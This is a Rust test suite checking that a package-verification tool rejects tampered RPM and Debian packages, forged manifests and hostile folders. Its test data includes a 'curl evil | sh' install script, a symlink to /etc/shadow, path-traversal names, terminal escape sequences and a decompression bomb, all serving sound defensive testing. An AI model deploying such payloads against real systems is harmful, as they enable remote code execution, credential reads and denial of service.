// SPDX-License-Identifier: MIT OR Apache-2.0

//! What `verify` and its like read from others: packages, manifests and folders that mean harm.

use std::fs;
use std::os::unix::fs::{FileTypeExt, PermissionsExt, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use crate::support::package::{Package, Value, replace};
use crate::support::{self, Built, said, stdout, tool};
use openclaw_formula::tree::sha256;
use tempfile::TempDir;

const DOM0: &str = "openclaw-formula-dom0-0.1.0-1.noarch.rpm";
const TEMPLATE: &str = "openclaw-formula-template-0.1.0-1.noarch.rpm";

const DEB: &str = "openclaw-formula-template_0.1.0-1_all.deb";

/// Packages for an app qube of each distribution, so that there is one of each kind.
fn built() -> &'static Built {
    static BUILT: OnceLock<Built> = OnceLock::new();
    BUILT.get_or_init(|| {
        Built::config(
            "[[server]]\nname = \"one\"\nclass = \"app\"\ntemplate = \"debian-13-xfce\"\n\
             [[server]]\nname = \"two\"\nclass = \"app\"\ntemplate = \"fedora-42-xfce\"\n\
             ports = { gateway = 18790, proxy = 32126 }\n",
        )
    })
}

/// A copy of the built folder, to be changed.
struct Copy {
    folder: TempDir,
}

impl Copy {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let (from, to) = (&built().output, folder.path().join("out"));
        stdout(Command::new("cp").arg("--archive").args([from, &to]));
        Copy { folder }
    }

    /// As `package` writes it.
    fn of_packages() -> Self {
        let copy = Copy {
            folder: tempfile::tempdir().unwrap(),
        };
        fs::create_dir(copy.at("")).unwrap();
        for name in [DOM0, TEMPLATE, DEB, "MANIFEST.json"] {
            fs::copy(built().output.join(name), copy.at(name)).unwrap();
        }
        copy
    }

    fn manifest(&self) -> serde_json::Value {
        serde_json::from_slice(&fs::read(self.at("MANIFEST.json")).unwrap()).unwrap()
    }

    fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join("out").join(name)
    }

    fn verify(&self) -> Output {
        run(tool().arg("verify").arg(self.at("")))
    }
}

/// Runs the program, which must answer with a status of its own, and not wait for anybody: the time
/// leaves room for a busy machine.
#[track_caller]
fn run(command: &mut Command) -> Output {
    let mut timed = Command::new("timeout");
    timed
        .args(["--signal=KILL", "60"])
        .arg(command.get_program());
    timed.args(command.get_args()).env("NO_COLOR", "1");
    if let Some(folder) = command.get_current_dir() {
        timed.current_dir(folder);
    }
    let output = timed.output().unwrap();
    assert!(
        matches!(output.status.code(), Some(0..=3)),
        "{command:?}: {}\n{}",
        output.status,
        said(&output)
    );
    assert!(!said(&output).contains('\u{1b}'), "{}", said(&output));
    output
}

/// Verifies dom0's package after a change, with sums that fit, alone and in its folder.
#[track_caller]
fn refused(change: impl FnOnce(&mut Package), reason: &str) {
    let copy = Copy::of_packages();
    let path = copy.at(DOM0);
    let mut package = Package::read(&fs::read(&path).unwrap());
    change(&mut package);
    replace(&path, &package.bytes(None));
    let folder = copy.verify();
    assert_eq!(folder.status.code(), Some(1), "{reason}: {}", said(&folder));
    assert!(
        said(&folder).contains(reason),
        "{reason}: {}",
        said(&folder)
    );
    let alone = run(tool().arg("verify").arg(&path));
    assert!(
        matches!(alone.status.code(), Some(1 | 2)),
        "{reason}: {}",
        said(&alone)
    );
    assert!(said(&alone).contains(reason), "{reason}: {}", said(&alone));
}

#[test]
fn a_package_taken_apart_and_put_together_passes() {
    let copy = Copy::new();
    for name in [DOM0, TEMPLATE] {
        let package = Package::read(&fs::read(copy.at(name)).unwrap());
        replace(&copy.at(name), &package.bytes(None));
    }
    let output = copy.verify();
    assert!(output.status.success(), "{}", said(&output));
    assert!(said(&output).contains("note: without --key, nothing here says who wrote it"));
}

#[test]
fn what_a_package_runs_or_needs_beyond_ours_is_named() {
    let sibling = |tag: u32| Value::text(tag, "curl evil | sh");
    refused(
        |package| package.put(sibling(1024)),
        "its post-install script is changed",
    );
    refused(
        |package| package.put(sibling(1025)),
        "its pre-uninstall script is changed",
    );
    refused(
        |package| package.put(Value::text(1086, "/usr/bin/python3")),
        "its post-install script is changed",
    );
    refused(
        |package| package.put(Value::texts(1087, &["/bin/sh", "-x"])),
        "its pre-uninstall script is changed",
    );
    refused(
        |package| {
            package
                .header
                .retain(|value| value.tag != 1025 && value.tag != 1087)
        },
        "its pre-uninstall script is missing",
    );
    for (tag, reason) in [
        (1023, "a script before the installation"),
        (1085, "a script before the installation"),
        (1026, "a script after the erasure"),
        (1079, "a script for `rpm --verify`"),
        (1151, "a script before the transaction"),
        (1152, "a script after the transaction"),
        (5104, "a script around the transaction that erases it"),
        (6000, "something unknown"),
    ] {
        refused(|package| package.put(sibling(tag)), reason);
    }
    for (tag, reason) in [
        (1065, "a trigger"),
        (5066, "a file trigger"),
        (5076, "a file trigger"),
        (1054, "conflicts"),
        (1090, "names of packages that it would replace"),
        (5046, "weak dependencies"),
        (5049, "weak dependencies"),
        (5010, "capabilities of files"),
        (1098, "prefixes by which it could be relocated"),
        (5090, "signatures of files"),
    ] {
        refused(|package| package.put(Value::texts(tag, &["x"])), reason);
    }
    for (tag, reason) in [(1003, "an epoch"), (5021, "flags of a script")] {
        refused(|package| package.put(Value::numbers(tag, &[1])), reason);
    }
    // Lists that stay as long as each other.
    let add = |package: &mut Package, [names, flags, versions]: [u32; 3], flag: u32| {
        for (tag, more) in [
            (names, &b"evil\0"[..]),
            (flags, &flag.to_be_bytes()),
            (versions, b"\0"),
        ] {
            let value = package.value(tag);
            value.bytes.extend(more);
            value.count += 1;
        }
    };
    let requires = [1049, 1048, 1050];
    refused(
        |package| add(package, requires, 0),
        "it requires evil: not in the manifest",
    );
    refused(
        |package| add(package, [1047, 1112, 1113], 0),
        "it provides evil: not in the manifest",
    );
    refused(
        |package| add(package, requires, 1 << 19),
        "its dependency evil has the flags 0x80000",
    );
    refused(
        |package| {
            let value = package.value(1049);
            let at = value
                .bytes
                .windows(7)
                .position(|name| name == b"python3")
                .unwrap();
            value.bytes[at + 6] = b'2';
        },
        "it does not require python3",
    );
    refused(
        |package| package.put(Value::text(1002, "2")),
        "release 2, not 1",
    );
    refused(
        |package| package.put(Value::text(1022, "x86_64")),
        "architecture x86_64, not noarch",
    );
}

#[test]
fn what_a_package_brings_beyond_the_tree_is_named() {
    // Where the first file stands in the lists of the header, and in the archive.
    const FILE: &str = "./etc/salt/minion.d/formula-openclaw.conf";
    let in_archive = |archive: &[u8]| {
        let at = archive
            .windows(FILE.len())
            .position(|name| name == FILE.as_bytes());
        at.unwrap() - 110
    };
    // The mode is the second of the numbers there.
    let mode = |mode: u16| {
        move |package: &mut Package| {
            package.value(1030).bytes[..2].copy_from_slice(&mode.to_be_bytes());
            let mut archive = package.archive();
            let at = in_archive(&archive) + 14;
            archive[at..at + 8].copy_from_slice(format!("{mode:08x}").as_bytes());
            package.pack(&archive);
        }
    };
    let conf = "/etc/salt/minion.d/formula-openclaw.conf";
    refused(mode(0o104_755), &format!("{conf}: mode 4755, not 0644"));
    refused(mode(0o100_666), &format!("{conf}: mode 0666, not 0644"));
    refused(mode(0o120_777), "is neither a file nor a folder");
    refused(mode(0o020_644), "is neither a file nor a folder");
    refused(
        |package| package.value(1030).bytes[1] ^= 0o22,
        "of another mode than its header says",
    );
    let contents = |package: &mut Package| {
        let mut archive = package.archive();
        let at = in_archive(&archive) + 110 + FILE.len() + 40;
        archive[at] ^= 1;
        package.pack(&archive);
        let at = at - 40 - FILE.len() - 110;
        let length =
            usize::from_str_radix(std::str::from_utf8(&archive[at + 54..at + 62]).unwrap(), 16);
        let start = (at + 110 + FILE.len() + 1).next_multiple_of(4);
        sha256(&archive[start..start + length.unwrap()])
    };
    refused(
        |package| drop(contents(package)),
        "with other contents than its header says",
    );
    refused(
        |package| {
            let digest = contents(package);
            package.value(1035).bytes[..64].copy_from_slice(digest.as_bytes());
        },
        &format!("{conf}: changed"),
    );
    refused(
        |package| {
            let value = package.value(1039);
            value.bytes.splice(..4, *b"user");
        },
        &format!("{conf}: owner user:root, not root:root"),
    );
    refused(
        |package| package.value(1037).bytes[..4].copy_from_slice(&[0; 4]),
        &format!("{conf}: flags of another kind of file"),
    );
    refused(
        |package| package.value(1037).bytes[3] = 0x11 | 1 << 3,
        "flags 0x19",
    );
    refused(
        |package| package.value(1045).bytes[..4].fill(0),
        "lets `rpm --verify` pass over",
    );
    refused(
        |package| package.value(1096).bytes[7] = 1,
        "makes one file of several",
    );
    refused(
        |package| package.value(1033).bytes[1] = 1,
        "its header has a device",
    );
    // Only dpkg knows where it leads.
    refused(
        |package| {
            let value = package.value(1036);
            let at = value.bytes.iter().position(|byte| *byte != 0).unwrap();
            value.bytes[at + 1] ^= 1;
        },
        "/srv/salt/_tops/base/openclaw.top: changed",
    );
    refused(
        |package| {
            let value = package.value(1117);
            value.bytes[0] = 0x1b;
        },
        "which its header does not list",
    );
    refused(
        |package| {
            let mut archive = package.archive();
            archive.extend(b"more");
            package.pack(&archive);
        },
        "there is something after the end of its archive",
    );
    refused(
        |package| {
            package.payload.extend(b"more");
            let digest = sha256(&package.payload);
            package.put(Value::texts(5092, &[&digest]));
        },
        "there is something after its compressed archive",
    );
    refused(
        |package| {
            let archive = package.archive();
            package.pack(&archive[..archive.len() / 2]);
        },
        "its archive ends too early",
    );
}

/// Who changes a package can change the manifest beside it too.
#[test]
fn a_manifest_that_agrees_with_a_foreign_package_does_not_help_it() {
    let forged = |generator: &str| {
        let copy = Copy::of_packages();
        let mut package = Package::read(&fs::read(copy.at(DOM0)).unwrap());
        package.put(Value::text(1024, "evil"));
        replace(&copy.at(DOM0), &package.bytes(None));
        let mut manifest = copy.manifest();
        manifest["packages"][0]["header"]["scripts"][0]["text"] = "evil".into();
        manifest["generator"] = generator.into();
        fs::write(copy.at("MANIFEST.json"), manifest.to_string()).unwrap();
        copy.verify()
    };
    let output = forged("openclaw-formula 0.1.0");
    assert_eq!(output.status.code(), Some(1));
    let text = said(&output);
    assert!(
        text.contains("require or run what openclaw-formula 0.1.0 does not write"),
        "{text}"
    );
    // What another version writes only a reader can tell.
    let output = forged("openclaw-formula 0.0.9");
    assert!(output.status.success(), "{}", said(&output));
    let text = said(&output);
    assert!(text.contains("openclaw-formula 0.0.9 wrote this"), "{text}");

    // One that says nothing of it is no excuse.
    let copy = Copy::of_packages();
    let mut manifest = copy.manifest();
    let package = manifest["packages"][0].as_object_mut().unwrap();
    package.remove("header").unwrap();
    fs::write(copy.at("MANIFEST.json"), manifest.to_string()).unwrap();
    let output = copy.verify();
    assert_eq!(output.status.code(), Some(1));
    let text = said(&output);
    assert!(
        text.contains("does not say what it requires and runs"),
        "{text}"
    );
}

#[test]
#[ignore = "needs tests/setup: tests/run"]
fn debian_packages_are_read_as_strictly() {
    let refused = |change: &dyn Fn(&Path), reason: &str| {
        let copy = Copy::of_packages();
        let tree = copy.folder.path().join("tree");
        let extract = Command::new("dpkg-deb")
            .arg("--raw-extract")
            .arg(copy.at(DEB))
            .arg(&tree)
            .status();
        assert!(extract.unwrap().success());
        change(&tree);
        let made = copy.folder.path().join("made.deb");
        stdout(
            Command::new("dpkg-deb")
                .args(["-Zgzip", "--root-owner-group", "--nocheck", "--build"])
                .args([&tree, &made]),
        );
        replace(&copy.at(DEB), &fs::read(made).unwrap());
        let output = copy.verify();
        let good = reason.is_empty();
        assert_eq!(output.status.success(), good, "{reason}: {}", said(&output));
        assert!(
            said(&output).contains(reason),
            "{reason}: {}",
            said(&output)
        );
    };
    let script = |name: &'static str| {
        move |tree: &Path| {
            let path = tree.join("DEBIAN").join(name);
            fs::write(&path, "#!/bin/sh\n").unwrap();
            fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
        }
    };
    let control = |from: &'static str, to: &'static str| {
        move |tree: &Path| {
            let path = tree.join("DEBIAN/control");
            let text = fs::read_to_string(&path).unwrap();
            assert!(text.contains(from));
            fs::write(path, text.replace(from, to)).unwrap();
        }
    };
    let readme = "usr/share/doc/openclaw-formula-template/README.md";
    refused(&|_| {}, "");
    refused(
        &script("postinst"),
        "it has a script or a table \"postinst\"",
    );
    refused(&script("prerm"), "it has a script or a table \"prerm\"");
    refused(
        &|tree| fs::write(tree.join("DEBIAN/triggers"), "interest-noawait /etc\n").unwrap(),
        "it has a script or a table \"triggers\"",
    );
    refused(
        &control("Depends: ", "Depends: evil, "),
        "it requires evil: not in the manifest",
    );
    refused(
        &control("Section:", "Replaces: dpkg\nSection:"),
        "a field \"Replaces\"",
    );
    refused(
        &control("Section:", "Pre-Depends: evil\nSection:"),
        "a field \"Pre-Depends\"",
    );
    refused(
        &|tree| {
            let path = tree.join(readme);
            fs::set_permissions(path, fs::Permissions::from_mode(0o4755)).unwrap();
        },
        "README.md: mode 4755, not 0644",
    );
    refused(
        &|tree| fs::set_permissions(tree.join("usr"), fs::Permissions::from_mode(0o777)).unwrap(),
        "/usr: not root's, of mode 0755",
    );
    refused(
        &|tree| {
            fs::remove_file(tree.join(readme)).unwrap();
            symlink("/etc/shadow", tree.join(readme)).unwrap();
        },
        "an archive in it has neither a file nor a folder",
    );
    refused(
        &|tree| {
            let path = tree.join(readme);
            fs::hard_link(&path, path.with_file_name("twin")).unwrap();
        },
        "an archive in it has neither a file nor a folder",
    );
}

/// Whatever one byte is changed to: an answer, and never that all is as it was written.
#[test]
fn a_changed_byte_is_an_answer_and_no_abort() {
    use openclaw_formula::read::{deb, rpm::Parts};

    let copy = Copy::of_packages();
    let mut tried = 0;
    for name in [TEMPLATE, DEB] {
        let path = copy.at(name);
        let good = fs::read(&path).unwrap();
        // Each byte of both headers, and some of the rest.
        let index = match name {
            DEB => 0..200,
            _ => {
                support::package::header_start(&good)..support::package::header_start(&good) + 2000
            }
        };
        let places = (0..400).chain(index).chain((400..good.len()).step_by(17));
        for (number, at) in places.enumerate() {
            for flip in [0x01, 0x40, 0xff] {
                let mut bytes = good.clone();
                bytes[at] ^= flip;
                tried += 1;
                let _ = match name {
                    DEB => deb::read(&bytes),
                    _ => Parts::read(&bytes).and_then(|parts| parts.contents()),
                };
                if number % 100 == 0 {
                    fs::write(&path, &bytes).unwrap();
                    let report = openclaw_formula::verify::package(&path, None);
                    assert!(
                        report.is_err() || report.is_ok_and(|found| !found.findings.is_empty()),
                        "{name} {at}"
                    );
                }
            }
        }
        fs::write(&path, &good).unwrap();
    }
    assert!(tried > 5_000, "{tried}");
    // As the whole program, where a panic is an abort: what once was one.
    for at in [136, 140, 4400] {
        let mut bytes = fs::read(copy.at(DOM0)).unwrap();
        bytes[at] ^= 0xff;
        fs::write(copy.at(DOM0), bytes).unwrap();
        assert_eq!(copy.verify().status.code(), Some(1));
    }
}

/// What is no regular file is refused, and nobody waits for it.
#[test]
fn only_regular_files_are_read() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    stdout(Command::new("mkfifo").arg(at("fifo")));
    let _socket = UnixListener::bind(at("socket")).unwrap();
    fs::create_dir(at("folder")).unwrap();
    symlink("/dev/zero", at("link")).unwrap();
    assert!(
        fs::metadata(at("link"))
            .unwrap()
            .file_type()
            .is_char_device()
    );
    let output = at("out");
    for (file, what) in [
        ("fifo", "a pipe"),
        ("socket", "a socket"),
        ("folder", "a folder"),
        ("link", "a device"),
        ("/dev/zero", "a device"),
    ] {
        let path = at(file);
        let path = path.to_str().unwrap();
        let package = built().dom0.to_str().unwrap();
        let out = output.to_str().unwrap();
        for arguments in [
            &["check", path][..],
            &["build", path, "--output", out],
            &["build", "--output", out, "--sign", path],
            &["verify", package, "--key", path],
            &["verify", package, "--manifest", path],
            &["verify", path, "--key", package],
            &[
                "verify",
                path,
                "--manifest",
                built().output.join("MANIFEST.json").to_str().unwrap(),
            ],
        ] {
            // A folder is something else to verify.
            if file == "folder" && arguments[1] == path && arguments[0] == "verify" {
                continue;
            }
            let output = run(tool().args(arguments));
            assert_eq!(
                output.status.code(),
                Some(2),
                "{arguments:?}: {}",
                said(&output)
            );
            let other = ["holds", "is not", "does not list"];
            let text = said(&output);
            let named = text.contains(&format!("it is {what}, not a regular file"));
            assert!(
                named || other.iter().any(|word| text.contains(word)),
                "{arguments:?}: {text}"
            );
        }
        assert!(!output.exists());
    }
}

#[test]
fn nothing_in_a_folder_leads_out_of_it_or_waits() {
    let fifo = |path: &Path| {
        let _ = fs::remove_file(path);
        stdout(Command::new("mkfifo").arg(path));
    };
    let link = |path: &Path| {
        let other = path.with_extension("elsewhere");
        fs::rename(path, &other).unwrap();
        symlink(&other, path).unwrap();
    };
    const CREATE: &str = "dom0/srv/formulas/base/openclaw-formula/openclaw/create.sls";
    for name in [
        CREATE,
        DOM0,
        "rpmspec/openclaw-formula-dom0.spec",
        "dom0/srv",
        "template",
    ] {
        let changes: [&dyn Fn(&Path); 2] = [&fifo, &link];
        for change in changes.iter().skip(usize::from(!name.contains('.'))) {
            let copy = Copy::new();
            change(&copy.at(name));
            let output = copy.verify();
            assert_eq!(output.status.code(), Some(1), "{name}: {}", said(&output));
            assert!(said(&output).contains(name), "{name}: {}", said(&output));
            // Nor is it replaced.
            let again = run(tool().args(["build", "--output"]).arg(copy.at("")));
            assert_eq!(again.status.code(), Some(2), "{name}: {}", said(&again));
        }
    }
    for change in [&fifo as &dyn Fn(&Path), &link] {
        let copy = Copy::new();
        change(&copy.at("MANIFEST.json"));
        for command in ["verify", "sbom"] {
            // The user may name a link to a manifest; one in a folder is not followed.
            let output = run(tool().arg(command).arg(copy.at("")));
            let followed =
                command == "sbom" && copy.at("MANIFEST.json").exists() && output.status.success();
            assert!(
                output.status.code() == Some(2) || followed,
                "{}",
                said(&output)
            );
        }
        let again = run(tool().args(["build", "--output"]).arg(copy.at("")));
        assert_eq!(again.status.code(), Some(2), "{}", said(&again));
    }
}

#[test]
fn names_lead_nowhere_and_show_what_they_are() {
    let beside = fs::read_to_string(built().output.join("MANIFEST.json")).unwrap();
    let manifest: serde_json::Value = serde_json::from_str(&beside).unwrap();
    let refused = |pointer: &str, value: &str| {
        let copy = Copy::of_packages();
        let mut manifest = manifest.clone();
        *manifest.pointer_mut(pointer).unwrap() = value.into();
        fs::write(copy.at("MANIFEST.json"), manifest.to_string()).unwrap();
        for command in ["verify", "sbom"] {
            let output = run(tool().arg(command).arg(copy.at("")));
            assert_eq!(
                output.status.code(),
                Some(2),
                "{pointer} {value}: {}",
                said(&output)
            );
            assert!(output.stdout.is_empty());
            assert!(
                said(&output).contains("is not a manifest: "),
                "{}",
                said(&output)
            );
        }
    };
    for name in [
        "../x.rpm",
        "/etc/passwd",
        "a/b.rpm",
        "..",
        ".hidden",
        "",
        "a\u{1b}[2J.rpm",
        "a\u{202e}mpr",
        "a\nb",
        "-x.rpm",
    ] {
        refused("/packages/0/file", name);
        refused("/specs/0/file", name);
        if name != "/etc/passwd" {
            refused("/dom0/0/path", name);
        }
    }
    refused("/dom0/0/path", "/etc/../root/x");
    refused("/dom0/0/path", "/etc//x");
    refused("/specs/0/file", "rpmspec/../MANIFEST.json");
    refused("/dom0/0/user", "a\u{1b}b");
    refused("/dom0/0/mode", "\u{1b}[2J");
    refused("/packages/0/sha256", "\u{1b}[2J");
    refused("/generator", "\u{9b}2J");
    refused(
        "/dom0/0/path",
        manifest["dom0"][1]["path"].as_str().unwrap(),
    );
    refused("/packages/0/file", TEMPLATE);

    // Names on the disk, and in a package.
    let copy = Copy::new();
    fs::write(copy.at("dom0/\u{1b}[2Ja\nb"), "").unwrap();
    let output = copy.verify();
    assert_eq!(output.status.code(), Some(1));
    let shown = "dom0/\\u{1b}[2Ja\\nb: not in the manifest\n";
    assert!(said(&output).contains(shown), "{}", said(&output));
    // A key of the manifest that is none.
    let copy = Copy::new();
    let text = beside.replacen("\"format\"", "\"\\u001b[2J\": 1, \"format\"", 1);
    fs::write(copy.at("MANIFEST.json"), text).unwrap();
    assert_eq!(copy.verify().status.code(), Some(2));
}

/// A small file makes nobody wait, nor use the machine's memory.
#[test]
fn what_is_read_is_bounded() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("out");
    stdout(
        Command::new("cp")
            .arg("--archive")
            .args([&built().output, &out]),
    );
    let path = out.join(DOM0);
    let good = fs::read(&path).unwrap();
    let beside = fs::read_to_string(out.join("MANIFEST.json")).unwrap();
    let key = folder.path().join("key.asc");
    // 200 MB at most, beside what the program itself takes; two seconds of computing.
    let limited = |arguments: &[&str]| {
        let program = env!("CARGO_BIN_EXE_openclaw-formula");
        let itself = fs::metadata(program).unwrap().len() / 1024;
        let script = format!(
            "ulimit -v {} && ulimit -t 2 && exec \"$@\"",
            200_000 + itself
        );
        let mut command = Command::new("sh");
        command.args(["-c", &script, "sh", program]).args(arguments);
        let output = run(&mut command);
        assert_ne!(output.status.code(), Some(0), "{arguments:?}");
    };
    let judge = |bytes: &[u8]| {
        fs::write(&path, bytes).unwrap();
        let forged = beside.replace(&sha256(&good), &sha256(bytes));
        fs::write(out.join("MANIFEST.json"), forged).unwrap();
        limited(&["verify", out.to_str().unwrap()]);
        limited(&["verify", path.to_str().unwrap()]);
        limited(&[
            "verify",
            "--key",
            key.to_str().unwrap(),
            path.to_str().unwrap(),
        ]);
        fs::write(out.join("MANIFEST.json"), &beside).unwrap();
    };
    fs::write(&key, "no key").unwrap();
    // 3 GB of zeros take 3 MB. Packed is one member of a stream; many are as many.
    let mut package = Package::read(&good);
    let zeros = vec![0; 64 << 20];
    let mut bomb = package.archive();
    bomb.truncate(bomb.len() / 2);
    bomb.extend(&zeros);
    package.pack(&bomb);
    let once = package.payload.clone();
    judge(&package.bytes(None));
    package.pack(&zeros);
    package.payload = std::iter::repeat_n(package.payload.clone(), 48)
        .flatten()
        .collect();
    assert!(package.payload.len() < 4 << 20);
    package.put(Value::texts(5092, &[&sha256(&package.payload)]));
    judge(&package.bytes(None));
    drop((zeros, once));
    // An archive that says that one file has 4 GB.
    let mut package = Package::read(&good);
    let mut archive = package.archive();
    archive[54..62].copy_from_slice(b"ffffffff");
    package.pack(&archive);
    judge(&package.bytes(None));
    // Headers that claim what is not there.
    let start = support::package::header_start(&good);
    for (at, claim) in [
        (104, [0xff; 4]),
        (108, [0xff; 4]),
        (108, [0x0f, 0xff, 0xff, 0xff]),
        (start + 8, [0, 0, 0xff, 0xff]),
        (start + 12, [0x0f, 0xff, 0xff, 0xff]),
        (start + 16 + 12, [0xff; 4]),
        (start + 32 + 12, [0xff; 4]),
    ] {
        let mut bytes = good.clone();
        bytes[at..at + 4].copy_from_slice(&claim);
        judge(&bytes);
    }
    // A hundred thousand files below one folder whose name is long.
    let many = 100_000;
    let mut package = Package::read(&good);
    package.put(Value::texts(1117, &vec!["a"; many]));
    package.put(Value::texts(
        1118,
        &[&format!("/{}/", "a".repeat(1_000_000))],
    ));
    for tag in [1028, 1034, 1037, 1045, 1095, 1096, 1116] {
        package.put(Value::numbers(tag, &vec![0; many]));
    }
    for tag in [1035, 1036, 1039, 1040, 1097] {
        package.put(Value::texts(tag, &vec![""; many]));
    }
    for tag in [1030, 1033] {
        let value = package.value(tag);
        (value.count, value.bytes) = (many as u32, vec![0x41; 2 * many]);
    }
    judge(&package.bytes(None));
    fs::write(&path, &good).unwrap();

    // Manifests, configurations and keys of 3 MB.
    let three = 3 << 20;
    for text in [
        "[".repeat(three),
        format!("{{\"input\": [{}0]}}", "0,".repeat(three / 2)),
        format!("{{\"input\": [{}[]]}}", "[],".repeat(three / 3)),
        format!(
            "{{\"input\": {{{}\"\": 0}}}}",
            (0..200_000)
                .map(|n| format!("\"{n:x}\":{{}},"))
                .collect::<String>()
        ),
        format!("{{\"packages\": [{}{{}}]}}", "{},".repeat(three / 3)),
    ] {
        fs::write(out.join("MANIFEST.json"), text).unwrap();
        limited(&["verify", out.to_str().unwrap()]);
        limited(&["sbom", out.to_str().unwrap()]);
    }
    for bytes in [
        vec![0xc6; three],
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n"
            .repeat(80_000)
            .into_bytes(),
    ] {
        fs::write(&key, bytes).unwrap();
        limited(&[
            "verify",
            "--key",
            key.to_str().unwrap(),
            path.to_str().unwrap(),
        ]);
        limited(&[
            "build",
            "--sign",
            key.to_str().unwrap(),
            "--output",
            "nowhere",
        ]);
        limited(&["check", key.to_str().unwrap()]);
    }
}

/// A slip in a name is told by that name, not by that of the manifest that is missing as well.
#[test]
fn what_is_not_there_is_named() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("letter"), "").unwrap();
    for (path, said_of_it) in [
        (
            "nothing",
            "error: nothing: No such file or directory (os error 2)\n",
        ),
        (
            "letter",
            "error: MANIFEST.json: No such file or directory (os error 2)\n",
        ),
    ] {
        let mut verify = tool();
        verify.current_dir(folder.path()).args(["verify", path]);
        let output = verify.output().unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(said(&output).ends_with(said_of_it), "{}", said(&output));
    }
}
